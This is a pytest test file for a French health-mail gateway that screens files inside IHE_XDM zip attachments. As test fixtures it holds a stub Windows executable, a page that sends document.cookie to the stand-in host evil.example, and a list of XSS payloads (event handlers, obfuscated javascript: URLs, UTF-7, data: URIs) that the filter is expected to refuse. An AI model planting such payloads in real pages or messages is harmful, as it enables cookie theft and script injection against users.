"""Issue 10 §4: the files of an IHE_XDM package are attachments like any other.

policy.attachments.check_package (the `classify` of a direct attachment, for each
file), through dossier_bridge.dossier.inspect_message, which the MX, submission and
the patient's filing all call."""
from __future__ import annotations

import datetime as dt
import io
import os
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dossier_bridge.dossier import inspect_message, open_package
from dossier_bridge.xdm import read_xdm
from mailbox_store.store import MailboxInfo
from policy.attachments import (Attachment, AttachmentLimits, Kind, PackageEntry, Part, check_package,
                                classify)
from policy.decisions import Decision
from policy.recipients import MailboxState
from tests.unit.test_attachments import pdf_bytes, png_bytes
from tests.unit.test_xdm import (BIOLOGY, CSE_CS8, INDEX_HTM, LDL_SES, README_TXT, biology_entry, certificate_entry,
                                 ldl_entry, metadata, package)

LIMITS = AttachmentLimits()
EXE = b"MZ" + b"\x90" * 58 + b"\x40\x00\x00\x00" + b"PE\x00\x00" + b"\x00" * 200
SCRIPT_PAGE = b"<html><body><p>Resultats</p><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def xdm_part(data: bytes, name: str = "IHE_XDM.ZIP") -> Part:
    return Part("2", name, "application/zip", "attachment", data, 1)


def checked(data: bytes) -> Decision | None:
    found = classify(xdm_part(data), LIMITS)
    assert isinstance(found, Attachment) and found.kind is Kind.XDM  # the central directory passes
    result = open_package(found, LIMITS)
    return result if isinstance(result, Decision) else None


def assert_refused_naming(decision: Decision | None, entry: str, *words: str) -> Decision:
    assert isinstance(decision, Decision), "the package was accepted"
    assert (decision.code, decision.status) == (554, "5.6.1"), decision
    assert f"IHE_XDM.ZIP/{entry}" in decision.fr and f"IHE_XDM.ZIP/{entry}" in decision.en, decision
    for w in words:
        assert w in decision.fr + decision.en, (w, decision)
    assert decision.smtp().isascii() and len(decision.smtp()) < 512
    return decision


def test_the_ans_examples_pass_whole_package_with_index_and_readme() -> None:
    data = package([ldl_entry(), biology_entry(), certificate_entry()])
    assert checked(data) is None
    names = [f.path for f in read_xdm(data, LIMITS).files]
    assert {"INDEX.HTM", "README.TXT", "IHE_XDM/SUBSET01/METADATA.XML", "IHE_XDM/SUBSET01/DOC0001.XML",
            "IHE_XDM/SUBSET01/DOC0002.XML", "IHE_XDM/SUBSET01/DOC0003.XML"} == set(names)


def test_a_pdf_and_a_png_document_pass() -> None:
    data = package([ldl_entry(),
                    biology_entry(content=pdf_bytes(), mime_type="application/pdf", uri="DOC0002.PDF"),
                    certificate_entry(content=png_bytes(), mime_type="image/png", uri="IMG0001.PNG")])
    assert checked(data) is None


@pytest.mark.parametrize("mime_type, uri", [("application/pdf", "DOC0001.PDF"), ("text/xml", "DOC0001.XML")])
def test_a_windows_executable_declared_pdf_or_xml_is_refused(mime_type: str, uri: str) -> None:
    data = package([ldl_entry(content=EXE, mime_type=mime_type, uri=uri), biology_entry()])
    assert_refused_naming(checked(data), f"IHE_XDM/SUBSET01/{uri}", "executable Windows", "Windows executable")


def test_a_zip_holding_an_exe_is_refused() -> None:
    inner = _zip({"setup.exe": EXE})
    data = package([ldl_entry(content=inner, mime_type="application/zip", uri="DOC0001.ZIP")])
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/DOC0001.ZIP", "autre que IHE_XDM")


def test_html_with_script_is_refused_as_a_document() -> None:
    data = package([ldl_entry(content=SCRIPT_PAGE, mime_type="text/html", uri="DOC0001.HTM")])
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/DOC0001.HTM", "HTML")


def test_a_file_no_document_entry_names_is_checked_too() -> None:
    data = package([ldl_entry()], extra={"IHE_XDM/SUBSET01/OUTIL.EXE": EXE})
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/OUTIL.EXE", "Windows executable")
    data = package([ldl_entry()], extra={"LISEZMOI.HTML": SCRIPT_PAGE})
    assert_refused_naming(checked(data), "LISEZMOI.HTML", "HTML")


def test_a_declared_type_that_does_not_fit_is_refused_as_for_a_part() -> None:
    data = package([ldl_entry(content=png_bytes(), mime_type="application/pdf", uri="DOC0001.PDF")])
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/DOC0001.PDF", "declaree application/pdf mais contenu PNG")


def test_a_nested_xdm_is_refused() -> None:
    inner = package([ldl_entry()])
    data = package([ldl_entry(content=inner, mime_type="application/zip", uri="INNER.ZIP")])
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/INNER.ZIP", "IHE_XDM package inside a package")


@pytest.mark.parametrize("page", [
    b"<html><body><script>alert(1)</script></body></html>",
    b"<html><body><a href='x' onclick='alert(1)'>x</a></body></html>",
    b"<html><body><a href='jav&#x61;script:alert(1)'>x</a></body></html>",
    b"<html><body><a href=' java\tscript:alert(1)'>x</a></body></html>".replace(b"java", b"ja\nva"),
    b"<html><body><img src=x onerror=alert(1)></body></html>",
    b"<html><body><svg/onload=alert(1)></body></html>",
    b"<html><body><iframe src='data:text/html,x'></iframe></body></html>",
    b"<html><head><meta http-equiv='refresh' content='0;url=data:text/html,x'></head></html>",
    b"<html><head><meta charset='utf-7'></head><body>+ADw-script+AD4-</body></html>",
    b"<html><body><a href='data:text/html;base64,PHNjcmlwdD4='>x</a></body></html>",
    b"<html><body><form action='https://evil.example/'><input name=p></form></body></html>",
    b"<html><!--[if IE]><p>x</p><![endif]--><body></body></html>",
    b"<html><body style='background:url(javascript:alert(1))'></body></html>",
])
def test_an_index_htm_that_is_not_inert_is_refused(page: bytes) -> None:
    data = package([ldl_entry()], extra={"INDEX.HTM": page})
    assert_refused_naming(checked(data), "INDEX.HTM", "HTML page with active content")


@pytest.mark.parametrize("page", [
    INDEX_HTM,
    b"<!DOCTYPE html><html lang='fr'><head><meta charset='utf-8'><title>Documents</title></head>"
    b"<body><h1>Documents</h1><table border='1'><tr><td><a href='IHE_XDM/SUBSET01/DOC0001.XML'>Lettre</a></td>"
    b"</tr></table><p>Editeur: <a href='https://www.example.fr/'>Exemple</a></p><!-- genere --></body></html>",
    b'<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><br/></body></html>',
])
def test_an_inert_index_htm_passes(page: bytes) -> None:
    assert checked(package([ldl_entry()], extra={"INDEX.HTM": page})) is None


def test_index_htm_is_judged_so_only_at_the_root() -> None:
    data = package([ldl_entry()], extra={"IHE_XDM/SUBSET01/INDEX.HTM": INDEX_HTM})
    assert_refused_naming(checked(data), "IHE_XDM/SUBSET01/INDEX.HTM", "HTML")


def test_an_entry_over_the_part_size_limit_is_too_big() -> None:
    big = os.urandom(1024 * 1024).hex().encode()  # 2 MB of text that deflate cannot shrink 100 times
    limits = AttachmentLimits(max_part_bytes=1024 * 1024)
    # the package as a part passes (default limits); one of its files is over the limit
    found = classify(xdm_part(package([ldl_entry(content=big, mime_type="text/plain", uri="NOTE.TXT")])), LIMITS)
    assert isinstance(found, Attachment)
    refusal = open_package(found, limits)
    assert isinstance(refusal, Decision) and (refusal.code, refusal.status) == (552, "5.3.4")
    assert "IHE_XDM.ZIP/IHE_XDM/SUBSET01/NOTE.TXT" in refusal.en


def test_long_entry_paths_keep_their_file_name_in_the_reply() -> None:
    deep = "IHE_XDM/SUBSET01/" + "tres-long-dossier/" * 6 + "DOC0001.EXE"
    refusal = check_package(xdm_part(b""), [PackageEntry(deep, EXE)], LIMITS)
    assert isinstance(refusal, Decision) and "/.../DOC0001.EXE" in refusal.en
    assert len(refusal.smtp()) < 512


def test_metadata_is_left_to_the_xdm_reader() -> None:
    # METADATA.XML is XML other than CDA: on the allow-list only as the package's metadata
    entries = [PackageEntry("IHE_XDM/SUBSET01/METADATA.XML", metadata([ldl_entry()])),
               PackageEntry("IHE_XDM/SUBSET02/metadata.xml", b"<x/>")]
    assert check_package(xdm_part(b""), entries, LIMITS) is None
    refusal = check_package(xdm_part(b""), [PackageEntry("IHE_XDM/METADATA.XML", b"<x/>")], LIMITS)
    assert isinstance(refusal, Decision) and "XML other than CDA" in refusal.en


def _mail(zip_data: bytes) -> bytes:
    from email.message import EmailMessage
    m = EmailMessage()
    m["From"] = "dr.martin@test-operator.mssante.fr"
    m["To"] = "279035121518989@patient.mssante.fr"
    m["Subject"] = "Documents"
    m["Message-ID"] = "<xdm@test-operator.mssante.fr>"
    m.set_content("Bonjour")
    m.add_attachment(zip_data, maintype="application", subtype="zip", filename="IHE_XDM.ZIP")
    return m.as_bytes(policy=m.policy.clone(linesep="\r\n"))


def test_inspect_message_refuses_whether_or_not_it_files() -> None:
    """The MX (recipients, filing), a bounce (no recipient) and submission (file=False)
    all get the same refusal."""
    raw = _mail(package([ldl_entry(content=EXE, mime_type="application/pdf", uri="DOC0001.PDF")]))
    patient = MailboxInfo(1, "279035121518989", MailboxState.ACTIVE, None, dt.datetime.now(dt.timezone.utc))
    for recipients, file in (([patient], True), ([], True), ([], False)):
        refusal = inspect_message(raw, recipients, LIMITS, None, file)
        assert_refused_naming(refusal if isinstance(refusal, Decision) else None,  # type: ignore[arg-type]
                              "IHE_XDM/SUBSET01/DOC0001.PDF")
    ok = inspect_message(_mail(package([ldl_entry(), biology_entry()])), [patient], LIMITS, None, True)
    assert not isinstance(ok, Decision) and len(ok.documents[0][1]) == 2


def test_the_three_ans_examples_are_cda_as_package_files() -> None:
    for content in (LDL_SES, BIOLOGY, CSE_CS8):
        assert check_package(xdm_part(b""), [PackageEntry("IHE_XDM/SUBSET01/DOC.XML", content, ("text/xml",))],
                             LIMITS) is None
    assert check_package(xdm_part(b""), [PackageEntry("README.TXT", README_TXT)], LIMITS) is None


def test_all_packages_of_a_message_share_the_unpacked_bound() -> None:
    from email.message import EmailMessage
    one = package([ldl_entry()])
    size = sum(len(f.content) for f in read_xdm(one, LIMITS).files)
    limits = AttachmentLimits(zip_max_unpacked_bytes=size * 2 + size // 2)  # two packages fit, not three
    for count, accepted in ((2, True), (3, False)):
        m = EmailMessage()
        m["From"] = "dr.martin@test-operator.mssante.fr"
        m.set_content("Bonjour")
        for i in range(count):
            m.add_attachment(one, maintype="application", subtype="zip", filename=f"IHE_XDM{i}.ZIP")
        result = inspect_message(m.as_bytes(policy=m.policy.clone(linesep="\r\n")), [], limits, None, False)
        assert (not isinstance(result, Decision)) is accepted, result
        if not accepted:
            assert isinstance(result, Decision) and (result.code, result.status) == (554, "5.6.1")
            assert "IHE_XDM2.ZIP" in result.en


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048), st.sampled_from(["INDEX.HTM", "IHE_XDM/SUBSET01/DOC.XML", "A.PDF"]))
def test_check_package_never_raises(content: bytes, path: str) -> None:
    result = check_package(xdm_part(b""), [PackageEntry(path, content, ("text/xml",))], LIMITS)
    assert result is None or isinstance(result, Decision)


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' ascriptonlad:&#;x-!?[]")), max_size=200))
def test_a_page_with_script_or_handlers_is_never_inert(soup: str) -> None:
    page = ("<html><body>" + soup + "</body></html>").encode()
    result = check_package(xdm_part(b""), [PackageEntry("INDEX.HTM", page)], LIMITS)
    if "<script" in soup.lower() or "javascript:" in soup.lower():
        assert isinstance(result, Decision) and result.rule == "attachment_forbidden"
    else:
        assert result is None or isinstance(result, Decision)
